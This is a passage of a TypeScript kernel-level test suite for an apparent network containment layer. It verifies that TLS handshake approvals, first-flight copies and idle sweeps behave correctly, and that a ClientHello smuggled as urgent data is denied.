      for (const variant of cases) {
        await contained(family, substitute(variant), captured);
        // Matched by reason: an earlier case's socket, its nftables drop gone, may retransmit on its revoked tuple.
        const event = await eventMatching(events, (e) => e.hook === 6 && e.reason === 'not-as-sent' && e.ip === lab.inet(WEB_HOST, family));
        assert.equal(event.verdict, 'denied', JSON.stringify(Object.keys(variant)));
        assert.equal(event.workloadId, alphaId);
      }
      // A ClientHello its socket sends as urgent data is not read as one: denied by the rule that needs a name.
      await contained(
        family,
        () => runAttack(alpha, URGENT_SCRIPT, { dst: lab.inet(WEB_HOST, family), hello: judged.toString('hex') }),
        captured,
      );
      const urgent = await eventMatching(events, (e) => e.layer === 'tls' && e.ip === lab.inet(WEB_HOST, family));
      assert.equal(urgent.verdict, 'denied');
      assert.equal(datapath.approvedFlows().get(alphaId!)?.flights, 0);
    });

    test(`IPv${family}: a permitted first flight's copy is freed when the server acknowledges it, and the flow goes on`, async () => {
      const alphaId = datapath.workloads().get(statIno(alpha.cgroupPath))!;
      const tag = `held${family}-${++serial}`;
      const held = await heldConnection(family, buildClientHello({ sni: 'allowed.example' }), tag);
      try {
        // Still open (no FIN has ended its approval): only the server's ACK, seen at tc egress, can have freed the copy.
        assert.equal(datapath.approvedFlows().get(alphaId)?.flights, 0, 'the acknowledged first flight is no longer held');
        held.process.stdin!.write('go\n');
        await arrived('sent', held.lines);
        await arrived(tag); // bytes after the first flight pass on the now fully approved flow
      } finally {
        held.process.stdin!.end();
      }
    });

    test(`IPv${family}: a handshake stalled before its verdict gives its first flight's copy back to the idle sweep`, async () => {
      const alphaId = datapath.workloads().get(statIno(alpha.cgroupPath))!;
      // Pending: the rest of the ClientHello never comes.
      const held = await heldConnection(family, buildClientHello({ sni: 'allowed.example' }).subarray(0, 60), 'unused');
      try {
        // Acknowledged but still pending: the copy stays (only a permitted first flight is freed by the ACK).
        assert.equal(datapath.approvedFlows().get(alphaId)?.flights, 1);
        datapath.sweepApprovals(process.hrtime.bigint() + APPROVAL_IDLE.closingNs + 1_000_000_000n); // short of an open flow's limit
        assert.equal(datapath.approvedFlows().get(alphaId)?.flights, 0, 'idle past the closing limit: swept with its approval');
      } finally {
        held.process.stdin!.end();
      }
    });

    test(`IPv${family}: a connection that has sent nothing yet keeps its handshake approval past the closing limit`, async () => {
      const alphaId = datapath.workloads().get(statIno(alpha.cgroupPath))!;
      const later = process.hrtime.bigint() + APPROVAL_IDLE.closingNs + 1_000_000_000n; // short of an open flow's limit
      datapath.sweepApprovals(later); // what earlier tests left idle goes now, not in the sweep below
      const held = await heldConnection(family, Buffer.alloc(0), `idle${family}`);
      try {
        const approved = datapath.approvedFlows().get(alphaId)!;
        assert.equal(approved.flights, 0, 'nothing sent: no first-flight copy');
        datapath.sweepApprovals(later);
        assert.equal(datapath.approvedFlows().get(alphaId)?.held, approved.held, 'an open connection without a copy keeps its approval');
      } finally {
        held.process.stdin!.end();
      }
    });
  }
};

describe('containment: socket identity and judged approvals (real kernel)', { skip }, identitySuite(true));
describe(
  "containment without the cgroup_skb program's source and owner check (tests-only object): tc's per-workload approvals (real kernel)",
  { skip },
  identitySuite(false),
);

function nftInPod(pod: LabPod, commands: string): void {
  const result = spawnSync('nsenter', [`--net=${pod.netnsPath}`, '--', 'nft', '-f', '-'], { input: commands, encoding: 'utf8' });
  assert.equal(result.status, 0, `nft failed: ${result.stderr}`);
}

/** A cgroup's id: its cgroup2 directory inode. */
function statIno(path: string): bigint {
  return statSync(path, { bigint: true }).ino;
}
